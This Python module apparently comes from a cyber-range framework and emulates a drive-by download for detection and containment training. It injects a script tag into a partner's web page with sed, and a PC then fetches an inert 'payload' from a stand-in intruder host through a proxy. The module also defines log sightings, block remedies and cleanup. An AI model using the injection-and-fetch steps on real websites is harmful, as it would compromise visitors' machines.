"""A partner's page gets one more script, from the intruder's site; a PC that looks at the page fetches it."""

from __future__ import annotations

import hashlib
import re
from collections.abc import Sequence
from typing import Annotated, ClassVar, Self

from pydantic import Field, model_validator

from cyder.contracts.acting import entity, first, traced
from cyder.contracts.action import Action, Caps, Cleanup, Expected, Scene, Sighting, Trial
from cyder.contracts.node import Node
from cyder.contracts.probe import Check, Containment
from cyder.contracts.proxied import Place, every_way, fetches, kept_out, place_of, proxy_url
from cyder.contracts.whereabouts import the
from cyder.errors import CyderError, NotFound
from cyder.model.base import LocalText
from cyder.model.evidence import Receipt, Remedy, Trace, Truth
from cyder.model.scenario import HostName
from cyder.model.topology import File
from cyder.roles.web import pages

_AGENT = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:140.0) Gecko/20100101 Firefox/140.0"
_ACCESS = "/var/log/squid/access.log"
_SERVED = "/srv/files"
_PATH = r"^(/[A-Za-z0-9_-]+){0,4}/[A-Za-z0-9_-]+(\.[A-Za-z0-9_-]+){1,3}$"
_PATIENCE = "8"
_OTHER = "/ja/access.html"


class DriveBy(Action):
    """One line more on a page of a partner's, two inert texts on the intruder's site, and one visit from a PC.

    The PC's user fetches page, script and file through the proxy, in this order; the file stays in the PC's cache.
    The script is a comment and the file a text: nothing runs either.
    """

    id: ClassVar[str] = "web.drive-by"
    title: ClassVar[LocalText] = LocalText(
        en="Drive-by download from a partner's site", ja="改ざんサイト閲覧による感染"
    )
    techniques: ClassVar[tuple[str, ...]] = ("T1189",)
    sources: ClassVar[frozenset[str]] = frozenset({"web"})
    targets: ClassVar[frozenset[str]] = frozenset({"client"})
    caps: ClassVar[Caps] = Caps(commands=20)
    touches: ClassVar[str] = (
        "a line on a page outside, two texts on the intruder's site, one in the cache of the PC's user"
    )
    ways: ClassVar[tuple[str, ...]] = ("block-at-proxy", "block-name-and-address")
    trials: ClassVar[tuple[Trial, ...]] = (Trial("partner", "pc1", {"host": "cdn-stat.example"}),)

    host: Annotated[HostName, Field(description="the intruder's site: one of the names of a machine outside")]
    page: Annotated[str, Field(pattern=r"^/(ja|en)/[a-z]{1,20}\.html$", description="the page that gets the line")] = (
        "/ja/seminar.html"
    )
    script: Annotated[str, Field(pattern=_PATH, max_length=80, description="the script on the intruder's site")] = (
        "/js/stat.js"
    )
    file: Annotated[
        str, Field(pattern=_PATH, max_length=80, description="the file that comes after it; the PC keeps its last part")
    ] = "/js/update.bin"

    @model_validator(mode="after")
    def _two_files(self) -> Self:
        if self.script == self.file:
            message = f"script and file are both '{self.file}'; give them two paths"
            raise ValueError(message)
        return self

    def run(self, scene: Scene) -> Trace:
        """Prepare both sites, then visit once; reached when the file came.

        Raises:
            CyderError: the partner's site does not show the page with its new line.
        """
        started = scene.clock.now()
        self._prepare(scene)
        pc, user = scene.lan.node(scene.target), _user(scene)
        page, script, file = self._page(scene), self._script(scene), self._site(scene).url(self.file)
        visits = (
            ("page", page, (), self._line(scene)),
            ("script", script, ("-e", page), scene.marker),
            ("file", file, ("-e", page, "--create-dirs", "-o", self._cache(scene)), ""),
        )
        for what, url, words, shows in visits:
            result = pc.run(_browse(scene, url, words), user=user, timeout=15)
            if not result.ok or shows not in result.out:
                return traced(scene, started, reached=False, said=f"the {what} did not come: {url}")
        return traced(scene, started, reached=True, said=f"{scene.target} fetched {page}, {script}, {file}")

    def emits(self, scene: Scene) -> tuple[Expected, ...]:
        """Expect the three addresses in the proxy's log, under the PC's address."""
        proxy = the(scene, "proxy").name
        wanted = (self._page(scene), self._script(scene), self._site(scene).url(self.file))
        return tuple(Expected(node=proxy, log="access", pattern=_through(scene, url)) for url in wanted)

    def sightings(self, scene: Scene) -> tuple[Sighting, ...]:
        """Look for the site in the proxy's log, for what the PC fetched around that, and for the file on the PC."""
        proxy, address = the(scene, "proxy").name, _address(scene)
        fetched = ("awk", f'$3 == "{address}" && $4 == "TCP_MISS/200" {{print $7}}', _ACCESS)
        return (
            Sighting(proxy, ("grep", "-F", self.host, _ACCESS), _through(scene, self._script(scene))),
            Sighting(proxy, fetched, re.escape(self._page(scene))),
            Sighting(scene.target, ("sha256sum", self._cache(scene)), _sum(scene)),
            Sighting(scene.target, ("curl", "-s", "-x", proxy_url(scene), self._page(scene)), re.escape(self.host)),
        )

    def truth(self, scene: Scene, receipts: Sequence[Receipt]) -> Truth:
        """Return the intruder's site, script and file, and when the PC fetched the file."""
        site, script = self._site(scene), self._script(scene)
        return Truth(
            indicators=(
                entity("site", domain=self.host, ip=site.address),
                entity("script", url=(script, site.url(self.script))),
                entity("file", sha256=_sum(scene), url=site.url(self.file), file=self._cache(scene)),
            ),
            timeline=first("delivery", scene.target, _through(scene, site.url(self.file)), receipts),
            remedies=(
                Remedy(kind="block-network", target=self.host),
                Remedy(kind="block-network", target=site.address),
            ),
        )

    def control(self, scene: Scene) -> Check:
        """Ask whether the PC gets another page of the partner's."""
        return Check(by="itself", probe=fetches(scene, place_of(scene, scene.source).url(_OTHER)))

    def containment(self, scene: Scene) -> tuple[Containment, ...]:
        """Return: the PC gets no script by any way, while it and others still get the partner's pages."""
        site, other = self._site(scene), place_of(scene, scene.source).url(_OTHER)
        allow = (
            Check(by="itself", probe=fetches(scene, self._page(scene), shows="</html>")),
            Check(by="colleague", probe=fetches(scene, other, shows="</html>")),
        )
        deny = every_way(scene, site, self.script, scene.marker)
        return tuple(
            Containment(id=name, deny=deny, allow=allow, typed=typed, undone=undone)
            for name, (typed, undone) in kept_out(scene, site).items()
        )

    def cleanup(self, scene: Scene) -> Cleanup:
        """Take the line off the page and remove the texts; look whether anything is left."""
        partner, pc, intruder = scene.actor, scene.lan.node(scene.target), self._intruder(scene)
        if self._changed(scene):
            partner.run(["sed", "-i", "-E", f"s|{re.escape(self._line(scene))}||", self._lies], user="www-data")
        served = [f"{_SERVED}{path}" for path in (self.script, self.file)]
        removed = pc.run(["rm", "-f", self._cache(scene)]).ok and intruder.run(["rm", "-f", *served]).ok
        changed = self._changed(scene)
        said = f"the page is {'still changed' if changed else 'clean'}, the texts are {'gone' if removed else 'left'}"
        return Cleanup(verified=removed and not changed, said=said)

    def _prepare(self, scene: Scene) -> None:
        """Put the texts on the intruder's site and, once, the line on the partner's page; look whether it is served."""
        intruder, partner = self._intruder(scene), scene.actor
        intruder.write(File(path=f"{_SERVED}{self.script}", content=f"/* counts visitors {scene.marker} */\n"))
        intruder.write(File(path=f"{_SERVED}{self.file}", content=_content(scene)))
        line = self._line(scene)
        if not self._changed(scene):
            partner.run(["sed", "-i", f"s|</body>|{line}&|", self._lies], user="www-data")
        url = f"http://{scene.vantage.address}{self.page}"
        if line not in partner.run(["curl", "-s", "-m", "3", url]).out:
            raise CyderError(f"{scene.source} does not show {self.page} with its new line")

    def _changed(self, scene: Scene) -> bool:
        return scene.actor.run(["grep", "-qF", self._line(scene), self._lies]).ok

    def _site(self, scene: Scene) -> Place:
        return _bearer(scene, self.host)[1]

    def _intruder(self, scene: Scene) -> Node:
        return scene.lan.node(_bearer(scene, self.host)[0])

    def _page(self, scene: Scene) -> str:
        return place_of(scene, scene.source).url(self.page)

    def _script(self, scene: Scene) -> str:
        return f"{self._site(scene).url(self.script)}?v={scene.marker}"

    def _line(self, scene: Scene) -> str:
        return f'<script src="{self._script(scene)}"></script>'

    def _cache(self, scene: Scene) -> str:
        user = _user(scene)
        home = "/root" if user == "root" else f"/home/{user}"
        return f"{home}/.cache/{self.file.rpartition('/')[2]}"

    @property
    def _lies(self) -> str:
        return f"{pages.ROOT}{self.page}"


def _bearer(scene: Scene, host: str) -> tuple[str, Place]:
    """Return which of the intruder's machines bears a name, and where the site of that name is.

    Raises:
        NotFound: none does.
    """
    intruders = [node for node in scene.lan.topology.nodes if node.role == "attacker"]
    known = {name: (node.name, Place(name, address)) for node in intruders for name, address in node.names}
    if host not in known:
        raise NotFound.named("site of the intruder's", host, known)
    return known[host]


def _user(scene: Scene) -> str:
    users = scene.lan.topology.node(scene.target).users
    return users[0] if users else "root"


def _address(scene: Scene) -> str:
    return scene.lan.topology.node(scene.target).interfaces[0].address


def _browse(scene: Scene, url: str, words: Sequence[str]) -> list[str]:
    """Return what fetches an address as the PC's browser does; a page that says no is a failure."""
    return ["curl", "-s", "-f", "-m", _PATIENCE, "-x", proxy_url(scene), "-A", _AGENT, *words, url]


def _through(scene: Scene, url: str) -> str:
    return rf" {re.escape(_address(scene))} TCP_MISS/200 \d+ GET {re.escape(url)} - HIER_DIRECT/"


def _content(scene: Scene) -> str:
    return f"This file stands for a program. It is a text and does nothing. {scene.marker}\n"


def _sum(scene: Scene) -> str:
    return hashlib.sha256(_content(scene).encode()).hexdigest()
